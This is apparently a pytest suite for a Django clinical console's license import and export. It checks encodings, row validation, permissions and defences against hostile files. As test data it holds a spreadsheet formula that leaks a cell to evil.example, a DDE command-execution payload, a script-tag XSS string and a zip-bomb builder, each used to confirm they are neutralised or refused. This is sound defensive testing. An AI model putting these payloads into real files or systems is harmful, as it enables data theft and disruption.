"""License import and export, with files as people really send them.

The check (``clinical.imports.checks``) is tested directly on bytes; the console flow (upload, preview,
confirm, cancel, progress) over HTTP as the clinical ops persona; the export as CSV and XLSX.
"""

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from clinical.actions import licenses as license_actions
from clinical.events import ROUTING_STREAM
from clinical.imports import checks as import_checks
from clinical.imports import files as import_files
from clinical.imports.resources import neutralise
from clinical.models import ImportUpload, LicenseStatus, ProviderLicense
from core.audit import Actor
from core.errors import ActionError
from core.models import AccessLog
from tests.builders import SYSTEM, make_license, make_provider, new_npi

HEADINGS = ["NPI", "State", "License number", "License type", "Status", "Issued on", "Expires on", "Notes"]
TODAY = timezone.localdate()
ISSUED = (TODAY - dt.timedelta(days=30)).isoformat()
EXPIRES = (TODAY + dt.timedelta(days=700)).isoformat()
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
IMPORT_URL = "ops:clinical_providerlicense_import"


def _csv(rows, headings=HEADINGS, *, encoding="utf-8", delimiter=",", trailing="") -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(headings)
    writer.writerows(rows)
    return (out.getvalue() + trailing).encode(encoding)


def _xlsx(rows, headings=HEADINGS) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Licenses"
    sheet.append(headings)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _row(provider, state="CA", number="CA-1", *, type_="MD", status="active", issued=ISSUED, expires=EXPIRES, notes=""):
    return [provider.npi, state, number, type_, status, issued, expires, notes]


def _check(data: bytes, name="licenses.csv"):
    return import_checks.check_license_file(data, name, max_rows=1000)


def _errors(preview) -> list[tuple[int, str, str]]:
    return [(row.line, column, message) for row in preview.results for column, message in row.errors]


def _apply(preview, user=None, name="licenses.csv"):
    actor = Actor.staff(user) if user else SYSTEM
    return import_checks.apply_license_plan(preview.plan, actor=actor, file_name=name)


# --- reading files as they come -------------------------------------------------------------


def test_it_reads_utf8_with_bom_and_matches_headings_in_any_case_and_spacing(db):
    provider = make_provider(states=())
    headings = ["\ufeffnpi", " STATE ", "license_number", "License  Type", "status", "ISSUED_ON", "expires-on", "notes"]
    data = _csv([_row(provider, notes="Dr. Zoë Núñez")], headings, encoding="utf-8-sig")
    preview = _check(data)
    assert preview.source == "CSV, UTF-8 with BOM"
    assert preview.counts == {"new": 1, "updated": 0, "unchanged": 0, "error": 0}
    _apply(preview)
    assert provider.licenses.get().notes == "Dr. Zoë Núñez"


def test_it_reads_latin1_files_as_excel_on_windows_saves_them(db):
    provider = make_provider(states=())
    data = _csv([_row(provider, notes="Renewed by Mme Müller – São Paulo office")], encoding="cp1252")
    preview = _check(data)
    assert preview.source == "CSV, Latin-1 (Windows-1252)"
    _apply(preview)
    assert provider.licenses.get().notes == "Renewed by Mme Müller – São Paulo office"


def test_it_reads_semicolon_separated_files_and_excel_serial_dates(db):
    provider = make_provider(states=())
    serial = (dt.date(2024, 3, 5) - dt.date(1899, 12, 30)).days  # what Excel writes for a date as a number
    data = _csv([_row(provider, issued=str(serial), expires="03/05/2027")], delimiter=";")
    _apply(_check(data))
    license = provider.licenses.get()
    assert (license.issued_on, license.expires_on) == (dt.date(2024, 3, 5), dt.date(2027, 3, 5))


def test_it_reads_excel_date_cells_and_numbers_typed_as_numbers(db):
    provider = make_provider(states=())
    rows = [[int(provider.npi), "ny", 123456, "m.d.", "Active", dt.datetime(2024, 1, 2), dt.date(2026, 1, 1), None]]
    preview = _check(_xlsx(rows), "licenses.xlsx")
    assert preview.source == "XLSX, sheet 'Licenses'"
    assert _errors(preview) == []
    _apply(preview)
    license = provider.licenses.get()
    assert (license.state, license.license_number, license.license_type) == ("NY", "123456", "MD")
    assert (license.issued_on, license.expires_on) == (dt.date(2024, 1, 2), dt.date(2026, 1, 1))


def test_it_skips_blank_trailing_rows_and_ignores_extra_columns(db):
    provider = make_provider(states=())
    headings = [*HEADINGS, "Board comments", "Internal ID"]
    data = _csv([[*_row(provider), "looks fine", "X-9"]], headings, trailing=",,,,,,,,,\r\n\r\n  ,,\r\n")
    preview = _check(data)
    assert (preview.rows, preview.blank_rows) == (1, 3)
    assert preview.ignored_columns == ["Board comments", "Internal ID"]
    assert preview.counts["new"] == 1


def test_it_skips_blank_rows_at_the_end_of_a_sheet(db):
    provider = make_provider(states=())
    preview = _check(_xlsx([_row(provider), [None] * 8, [None, "", None, None, None, None, None, None]]), "l.xlsx")
    assert (preview.rows, preview.blank_rows, preview.counts["new"]) == (1, 2, 1)


def test_it_names_the_missing_required_columns(db):
    headings = ["NPI", "State", "Type", "Status", "Expires"]
    with pytest.raises(import_files.FileError) as error:
        _check(_csv([], headings))
    assert "no column for: License number, Issued on" in str(error.value)
    assert "'Type'" in str(error.value)


def test_it_refuses_two_columns_for_one_field(db):
    with pytest.raises(import_files.FileError, match="'Expires on' and 'Expiration date' both give the Expires on"):
        _check(_csv([], [*HEADINGS, "Expiration date"]))


def test_it_refuses_what_is_not_a_spreadsheet(db):
    with pytest.raises(import_files.FileError, match="not a readable .xlsx workbook"):
        _check(b"PK\x03\x04 not really a zip", "licenses.xlsx")
    with pytest.raises(import_files.FileError, match="NUL bytes"):
        _check(b"NPI,State\x00\x00", "licenses.csv")
    with pytest.raises(import_files.FileError, match="empty"):
        _check(b"\r\n\r\n", "licenses.csv")


def test_it_refuses_a_file_longer_than_the_row_limit(db):
    provider = make_provider(states=())
    data = _csv([_row(provider, number=f"N-{n}") for n in range(5)])
    with pytest.raises(import_files.FileError, match="more than 4 rows"):
        import_checks.check_license_file(data, "big.csv", max_rows=4)


# --- checking rows --------------------------------------------------------------------------


def test_it_reports_wrong_types_with_the_line_and_the_column(db):
    provider = make_provider(states=())
    rows = [
        _row(provider, "ZZ", "A-1"),
        _row(provider, "CA", "A-2", type_="RN"),
        _row(provider, "CA", "A-3", status="lapsed"),
        _row(provider, "CA", "A-4", issued="soon"),
        _row(provider, "CA", "A-5", issued="2025-06-01", expires="2025-06-01"),
        ["123", "CA", "A-6", "MD", "active", ISSUED, "", ""],
        [provider.npi, "CA", "", "MD", "active", "", "", ""],
        _row(provider, "CA", "A-8", issued="45123.5"),
        _row(provider, "CA", "A-9", issued="02/30/2024"),
    ]
    preview = _check(_csv(rows))
    assert _errors(preview) == [
        (2, "State", "'ZZ' is not a US state; use its two-letter code, e.g. CA"),
        (3, "License type", "'RN' is not a license type; use one of MD, DO, NP, PA"),
        (4, "Status", "'lapsed' is not a license status; use one of active, pending, suspended, revoked, expired"),
        (5, "Issued on", "'soon' is not a date; write it as YYYY-MM-DD or MM/DD/YYYY"),
        (6, "Expires on", "2025-06-01 is not after the issue date 2025-06-01"),
        (7, "NPI", "'123' is not an NPI (10 digits)"),
        (8, "License number", "is required"),
        (8, "Issued on", "is required"),
        (9, "Issued on", "'45123.5' is not a date; write it as YYYY-MM-DD or MM/DD/YYYY"),
        (10, "Issued on", "'02/30/2024' is not a date"),
    ]
    assert preview.counts == {"new": 0, "updated": 0, "unchanged": 0, "error": 9}
    assert preview.has_errors


def test_it_counts_lines_as_the_file_has_them(db):
    provider = make_provider(states=())
    data = _csv([_row(provider, number="A-1", notes="two\nlines"), _row(provider, "XX", "A-2")])
    assert _errors(_check(data)) == [(4, "State", "'XX' is not a US state; use its two-letter code, e.g. CA")]


def test_it_refuses_unknown_npis(db):
    unknown = new_npi()
    preview = _check(_csv([[unknown, "CA", "A-1", "MD", "active", ISSUED, "", ""]]))
    assert _errors(preview) == [(2, "NPI", f"no provider has NPI {unknown}; add the provider first")]


def test_it_refuses_a_wrong_npi_check_digit(db):
    provider = make_provider(states=())
    wrong = provider.npi[:-1] + str((int(provider.npi[-1]) + 1) % 10)
    preview = _check(_csv([[wrong, "CA", "A-1", "MD", "active", ISSUED, "", ""]]))
    assert _errors(preview) == [(2, "NPI", f"{wrong} has a wrong check digit; re-check the number")]


def test_it_refuses_duplicate_rows_in_the_file(db):
    provider = make_provider(states=())
    rows = [_row(provider, number="A-1"), _row(provider, "NV", "B-1"), _row(provider, number="a-1", status="expired")]
    preview = _check(_csv(rows))
    assert _errors(preview) == [(4, "License number", "repeats line 2 (same NPI, state and license number)")]


def test_it_refuses_a_second_active_license_in_a_state(db):
    provider = make_provider(states=("CA",))
    on_record = provider.licenses.get()
    other = make_provider(states=())
    rows = [_row(provider, "CA", "NEW-1"), _row(other, "NV", "N-1"), _row(other, "NV", "N-2")]
    number = on_record.license_number
    assert _errors(_check(_csv(rows))) == [
        (2, "Status", f"a second active license in CA for this provider (license {number} on record)"),
        (3, "Status", "a second active license in NV for this provider (line 4)"),
        (4, "Status", "a second active license in NV for this provider (line 3)"),
    ]


def test_it_accepts_a_renewal_that_expires_the_old_license_in_the_same_file(db):
    provider = make_provider(states=("CA",))
    old = provider.licenses.get()
    rows = [
        _row(provider, "CA", "RENEWED-1"),
        _row(provider, "CA", old.license_number, status="expired", issued=old.issued_on, expires=old.expires_on),
    ]
    preview = _check(_csv(rows))
    assert preview.counts == {"new": 1, "updated": 1, "unchanged": 0, "error": 0}
    _apply(preview)
    assert dict(provider.licenses.values_list("license_number", "status")) == {
        "RENEWED-1": "active",
        old.license_number: "expired",
    }


def test_it_counts_new_updated_and_unchanged_rows_with_their_changes(db):
    provider = make_provider(states=("CA", "NV"))
    ca, nv = provider.licenses.order_by("state")
    rows = [
        _row(provider, "CA", ca.license_number, issued=ca.issued_on, expires=ca.expires_on),  # as on record
        _row(provider, "NV", nv.license_number, status="suspended", issued=nv.issued_on, expires=nv.expires_on),
        _row(provider, "OR", "OR-1", type_="DO"),
    ]
    preview = _check(_csv(rows))
    assert preview.counts == {"new": 1, "updated": 1, "unchanged": 1, "error": 0}
    assert [(r.line, r.outcome) for r in preview.results] == [(3, "updated"), (4, "new")]
    assert preview.results[0].changes == [("Status", "active", "suspended")]
    assert ("License type", "", "DO") in preview.results[1].changes


def test_it_keeps_values_of_optional_columns_the_file_lacks(db):
    provider = make_provider(states=("CA",))
    license = provider.licenses.get()
    license.notes = "keep me"
    license_actions.save_license(license, actor=SYSTEM, reason="note")
    rows = [[provider.npi, "CA", license.license_number, "MD", "suspended", license.issued_on.isoformat()]]
    _apply(_check(_csv(rows, HEADINGS[:6])))
    license.refresh_from_db()
    assert (license.status, license.notes, license.expires_on is not None) == ("suspended", "keep me", True)
    late = (license.expires_on + dt.timedelta(days=1)).isoformat()
    rows = [[provider.npi, "CA", license.license_number, "MD", "suspended", late]]
    assert _errors(_check(_csv(rows, HEADINGS[:6]))) == [
        (2, "Issued on", f"{late} is not before the expiry date on record {license.expires_on}")
    ]


def test_it_keeps_a_formula_payload_as_plain_text(db):
    provider = make_provider(states=())
    preview = _check(_csv([_row(provider, notes=FORMULA)]))
    _apply(preview)
    assert provider.licenses.get().notes == FORMULA


def test_it_reads_a_formula_typed_as_text_in_a_sheet_as_text_and_never_evaluates_one(db):
    provider = make_provider(states=())
    book = openpyxl.load_workbook(io.BytesIO(_xlsx([_row(provider, "CA", "A-1"), _row(provider, "NV", "B-1")])))
    text_cell, formula_cell = book.active["H2"], book.active["H3"]
    text_cell.value, text_cell.data_type = FORMULA, "s"  # what Excel stores for '=HYPERLINK(...)
    formula_cell.value = "=1+1"  # a real formula: no cached value, so it reads as empty
    out = io.BytesIO()
    book.save(out)
    _apply(_check(out.getvalue(), "licenses.xlsx"))
    assert dict(provider.licenses.values_list("state", "notes")) == {"CA": FORMULA, "NV": ""}


def test_it_checks_a_file_in_the_same_number_of_queries_whatever_its_length(db, django_assert_num_queries):
    providers = [make_provider(states=("CA",)) for _ in range(3)]
    small = _csv([_row(p, "NV", f"S-{i}") for i, p in enumerate(providers[:1])])
    large = _csv([_row(p, state, f"L-{i}-{state}") for i, p in enumerate(providers) for state in ("NV", "OR", "WA")])
    with django_assert_num_queries(3):  # providers, licenses on record, what counts now before and after
        _check(small)
    with django_assert_num_queries(3):
        preview = _check(large)
    with django_assert_num_queries(5):  # savepoint, lock, insert, history, release (no updates, no search outbox)
        _apply(preview)
    assert preview.counts["new"] == 9


# --- applying -------------------------------------------------------------------------------


def test_it_applies_a_file_with_history_and_routing_events(
    db, clinical_ops, redis_client, django_capture_on_commit_callbacks
):
    provider = make_provider(states=("CA",))
    ca = provider.licenses.get()
    rows = [
        _row(provider, "CA", ca.license_number, status="suspended", issued=ca.issued_on, expires=ca.expires_on),
        _row(provider, "NV", "NV-9"),
    ]
    preview = _check(_csv(rows), "board-2026-05.csv")
    redis_client.delete(ROUTING_STREAM)
    with django_capture_on_commit_callbacks(execute=True):
        counts = _apply(preview, clinical_ops, "board-2026-05.csv")
    assert counts == {"new": 1, "updated": 1, "unchanged": 0}
    history = ProviderLicense.history.filter(provider_id=provider.pk, history_change_reason="import board-2026-05.csv")
    assert sorted((h.state, h.status, h.history_type, h.history_user) for h in history) == [
        ("CA", "suspended", "~", clinical_ops),
        ("NV", "active", "+", clinical_ops),
    ]
    events = [fields for _, fields in redis_client.xrange(ROUTING_STREAM)]
    assert [(e["kind"], e["provider"]) for e in events] == [("license_changed", str(provider.pk))]  # one per provider


def test_it_writes_nothing_when_a_license_changed_since_the_check(db):
    provider = make_provider(states=("CA",))
    ca = provider.licenses.get()
    rows = [_row(provider, "CA", ca.license_number, status="suspended", issued=ca.issued_on), _row(provider, "NV")]
    preview = _check(_csv(rows))
    license_actions.change_license_status(ca, LicenseStatus.REVOKED, actor=SYSTEM, reason="board revoked it")
    before = ProviderLicense.history.count()
    with pytest.raises(ActionError, match="changed since it was checked"):
        _apply(preview)
    assert list(provider.licenses.values_list("state", "status")) == [("CA", "revoked")]
    assert ProviderLicense.history.count() == before


def test_it_writes_nothing_when_the_database_refuses_a_row(db):
    provider = make_provider(states=())
    preview = _check(_csv([_row(provider, "CA", "A-1"), _row(provider, "NV", "B-1")]))
    make_license(provider, "NV")  # someone added an active NV license meanwhile
    with pytest.raises(ActionError, match="two active licenses in one state"):
        _apply(preview)
    assert list(provider.licenses.values_list("state", flat=True)) == ["NV"]


# --- the console ----------------------------------------------------------------------------


def _upload(client, data: bytes, name="licenses.csv"):
    return client.post(reverse(IMPORT_URL), {"file": SimpleUploadedFile(name, data)})


def _job_url(response) -> str:
    assert response.status_code == 302, response.content.decode()[:2000]
    return response["Location"]


def _token(url: str) -> str:
    return url.rstrip("/").rsplit("/", 1)[-1]


def _keys(redis_client) -> set[str]:
    return set(redis_client.keys("ops:import:*"))


def test_it_previews_then_confirms_an_import_in_the_console(client, clinical_ops, redis_client):
    provider = make_provider(states=("CA",))
    ca = provider.licenses.get()
    rows = [
        _row(provider, "CA", ca.license_number, status="suspended", issued=ca.issued_on, expires=ca.expires_on),
        _row(provider, "NV", "NV-1", notes="<script>alert(1)</script>"),
    ]
    client.force_login(clinical_ops)
    job_url = _job_url(_upload(client, _csv(rows), "may.csv"))
    page = client.get(job_url)
    html = page.content.decode()
    assert page.context["preview"]["counts"] == {"new": 1, "updated": 1, "unchanged": 0, "error": 0}
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "<script>alert(1)" not in html
    assert 'id="import-confirm-form"' in html
    assert provider.licenses.count() == 1  # the preview wrote nothing
    done = client.post(f"{job_url}confirm/")
    assert done.status_code == 302
    result = client.get(job_url)
    assert "1 new, 1 updated" in result.content.decode()
    assert dict(provider.licenses.values_list("state", "status")) == {"CA": "suspended", "NV": "active"}
    assert provider.licenses.get(state="NV").history.get().history_user == clinical_ops
    assert _keys(redis_client) == {f"ops:import:{_token(job_url)}"}  # preview and plan are gone
    assert client.post(f"{job_url}confirm/").status_code == 302  # a second confirm applies nothing
    assert ProviderLicense.history.filter(history_change_reason="import may.csv").count() == 2


def test_it_writes_nothing_for_a_file_with_errors_and_offers_no_confirm(client, clinical_ops, redis_client):
    provider = make_provider(states=())
    client.force_login(clinical_ops)
    job_url = _job_url(_upload(client, _csv([_row(provider, "CA", "A-1"), _row(provider, "ZZ", "A-2")])))
    html = client.get(job_url).content.decode()
    assert "nothing will be written" in html and 'id="import-confirm-form"' not in html
    assert "&#x27;ZZ&#x27; is not a US state" in html
    assert client.post(f"{job_url}confirm/").status_code == 302
    assert not provider.licenses.exists()


def test_it_reports_a_file_error_naming_the_missing_columns(client, clinical_ops, redis_client):
    client.force_login(clinical_ops)
    job_url = _job_url(_upload(client, _csv([], ["NPI", "State"])))
    html = client.get(job_url).content.decode()
    assert "The file has no column for: License number, License type, Status, Issued on." in html


def test_it_deletes_the_preview_when_the_import_is_cancelled(client, clinical_ops, redis_client, settings):
    provider = make_provider(states=())
    client.force_login(clinical_ops)
    job_url = _job_url(_upload(client, _csv([_row(provider)])))
    token = _token(job_url)
    assert f"ops:import:{token}:preview" in _keys(redis_client)
    assert ImportUpload.objects.get(token=token).plan is not None  # the plan waits in PostgreSQL
    for key in _keys(redis_client):  # an abandoned preview expires by itself
        assert 0 < redis_client.ttl(key) <= settings.IMPORT_PREVIEW_MINUTES * 60
    response = client.post(f"{job_url}cancel/")
    assert response.status_code == 302
    assert _keys(redis_client) == {f"ops:import:{token}"}
    upload = ImportUpload.objects.get(token=token)
    assert (upload.status, bytes(upload.data), upload.plan) == ("cancelled", b"", None)
    assert client.post(f"{job_url}confirm/").status_code == 302
    assert not provider.licenses.exists()


def test_it_never_writes_an_upload_to_disk(client, clinical_ops, redis_client, settings, tmp_path):
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    settings.MEDIA_ROOT = str(tmp_path)
    provider = make_provider(states=())
    rows = [_row(provider, notes="x" * 3000)] + [_row(provider, "ZZ", f"N-{n}") for n in range(1000)]
    data = _csv(rows)
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1024  # Django's own handlers would spill this file to a temp file
    assert len(data) > 10 * settings.FILE_UPLOAD_MAX_MEMORY_SIZE
    client.force_login(clinical_ops)
    job_url = _job_url(_upload(client, data))
    assert client.get(job_url).context["preview"]["counts"]["error"] == 1000
    assert list(tmp_path.iterdir()) == []


def test_it_refuses_a_file_over_the_size_limit(client, clinical_ops, redis_client, settings):
    settings.IMPORT_MAX_MB = 1
    client.force_login(clinical_ops)
    response = _upload(client, b"NPI,State\r\n" + b"1" * (1024 * 1024 + 10))
    assert response.status_code == 200
    assert "larger than 1 MB" in response.content.decode()
    assert _keys(redis_client) == set()


def test_it_requires_the_csrf_token_to_upload(clinical_ops, redis_client):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(clinical_ops)
    assert _upload(client, _csv([])).status_code == 403
    assert _keys(redis_client) == set()


@pytest.mark.parametrize("role", ["support_agent", "engineer", "outsider"])
def test_it_refuses_every_import_page_to_roles_without_import(client, request, role, clinical_ops, redis_client):
    provider = make_provider(states=())
    client.force_login(clinical_ops)
    job_url = _job_url(_upload(client, _csv([_row(provider)])))
    client.force_login(request.getfixturevalue(role))
    assert _upload(client, _csv([_row(provider, "NV")])).status_code == 403
    for suffix in ("", "progress/", "report.csv"):
        assert client.get(f"{job_url}{suffix}").status_code == 403
    for suffix in ("confirm/", "cancel/"):
        assert client.post(f"{job_url}{suffix}").status_code == 403
    assert not provider.licenses.exists()


def test_it_hides_an_import_from_everyone_but_its_uploader(client, clinical_ops, lead, redis_client):
    provider = make_provider(states=())
    client.force_login(clinical_ops)
    job_url = _job_url(_upload(client, _csv([_row(provider)])))
    client.force_login(lead)
    assert client.get(job_url).status_code == 404
    assert client.post(f"{job_url}confirm/").status_code == 404
    assert not provider.licenses.exists()


def test_it_reports_every_row_as_a_neutralised_csv(client, clinical_ops, redis_client):
    provider = make_provider(states=())
    client.force_login(clinical_ops)
    job_url = _job_url(_upload(client, _csv([_row(provider, notes=FORMULA), _row(provider, "ZZ", "=cmd")])))
    report = client.get(f"{job_url}report.csv").content.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(report)))
    assert lines[0][:3] == ["Line", "Outcome", "License (NPI state number)"]
    assert [line[:4] for line in lines if line[1] == "error"] == [["3", "error", f"{provider.npi} ? =cmd", "State"]]
    assert ["2", "new", f"{provider.npi} CA CA-1", "Notes", "", "", "'" + FORMULA] in lines


# --- export ---------------------------------------------------------------------------------


def _export(client, model: str, query: str, file_format: int):
    url = reverse(f"ops:clinical_{model}_export") + query
    page = client.get(url)
    assert page.status_code == 200
    return client.post(url, {"format": str(file_format), "resource": "0"})


def test_it_exports_the_filtered_license_list_as_csv_neutralised_and_recorded(client, clinical_ops):
    provider = make_provider(states=("CA", "NV"))
    ca = provider.licenses.get(state="CA")
    ca.notes = FORMULA
    license_actions.save_license(ca, actor=SYSTEM, reason="note")
    client.force_login(clinical_ops)
    response = _export(client, "providerlicense", "?state__exact=CA", 0)
    assert response["Content-Type"].startswith("text/csv")
    content = response.content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content)))
    assert [(r["NPI"], r["State"], r["Notes"]) for r in rows] == [(provider.npi, "CA", "'" + FORMULA)]
    record = AccessLog.objects.get()
    assert (record.kind, record.user, record.model) == ("export", clinical_ops, "clinical.providerlicense")
    assert (record.terms, record.detail, record.ip) == ("state__exact=CA", "1 rows as csv", "127.0.0.1")


def test_it_exports_licenses_as_xlsx_with_every_formula_neutralised(client, lead):
    provider = make_provider(states=("CA",))
    license = provider.licenses.get()
    license.notes = "@SUM(1+1)*cmd|' /C calc'!A0"
    license_actions.save_license(license, actor=SYSTEM, reason="note")
    client.force_login(lead)
    response = _export(client, "providerlicense", "", 1)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, row = [c.value for c in sheet[1]], [c for c in sheet[2]]
    notes = row[header.index("Notes")]
    assert notes.value == "'" + license.notes and notes.data_type == "s"
    assert row[header.index("Issued on")].is_date
    assert not any(cell.data_type == "f" for line in sheet.iter_rows() for cell in line)


def test_it_exports_providers_with_phone_numbers_neutralised(client, clinical_ops):
    provider = make_provider(states=("CA",))
    client.force_login(clinical_ops)
    response = _export(client, "provider", f"?npi={provider.npi}", 0)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [(r["NPI"], r["Phone"]) for r in rows] == [(provider.npi, "'" + provider.phone)]


def test_it_imports_its_own_export_as_unchanged(client, clinical_ops):
    providers = [make_provider(states=("CA", "NV")) for _ in range(3)]
    client.force_login(clinical_ops)
    ids = ",".join(str(p.pk) for p in providers)
    response = _export(client, "providerlicense", f"?provider__id__in={ids}", 0)
    preview = _check(response.content, "export.csv")
    assert preview.counts == {"new": 0, "updated": 0, "unchanged": 6, "error": 0}
    assert preview.ignored_columns == ["Provider", "Verified by", "Verified at"]


def test_it_neutralises_every_formula_prefix():
    assert [neutralise(v) for v in ("=1", "+1", "-1", "@A1", "\tx", "\rx", "ok", 5, None)] == [
        "'=1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "ok", 5, None
    ]  # fmt: skip


def test_it_shows_import_and_export_links_only_to_roles_that_have_them(client, personas):
    make_provider(states=("CA",))
    for role, user in personas.items():
        client.force_login(user)
        response = client.get(reverse("ops:clinical_providerlicense_changelist"))
        if response.status_code == 403:
            continue
        html = response.content.decode()
        allowed = user.has_perm("clinical.import_providerlicense")
        assert (reverse(IMPORT_URL) in html, 'class="export_link"' in html) == (allowed, allowed), role


def _zip_bomb(megabytes: int) -> bytes:
    """Return a small .xlsx-shaped zip whose sheet unzips to ``megabytes`` of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", "<Types/>")
        book.writestr("xl/worksheets/sheet1.xml", b"0" * (megabytes * 1024 * 1024))
    return out.getvalue()


def test_it_refuses_an_xlsx_that_unzips_past_the_limit_before_reading_it(db, settings):
    settings.IMPORT_MAX_UNZIPPED_MB = 20
    bomb = _zip_bomb(30)
    assert len(bomb) < 100_000  # 30 MB of sheet in a file of a few kilobytes
    with pytest.raises(import_files.FileError, match=r"more than 20 MB \(IMPORT_MAX_UNZIPPED_MB\)"):
        _check(bomb, "board.xlsx")


def test_it_refuses_an_xlsx_part_packed_past_the_ratio(db, settings):
    with pytest.raises(import_files.FileError, match=r"more than 100 to 1 \(IMPORT_MAX_ZIP_RATIO\)"):
        _check(_zip_bomb(5), "board.xlsx")


def test_it_takes_one_file_per_request(client, clinical_ops):
    client.force_login(clinical_ops)
    files = [SimpleUploadedFile(f"l{n}.csv", _csv([])) for n in range(2)]
    response = client.post(reverse(IMPORT_URL), {"file": files})
    assert response.status_code == 400
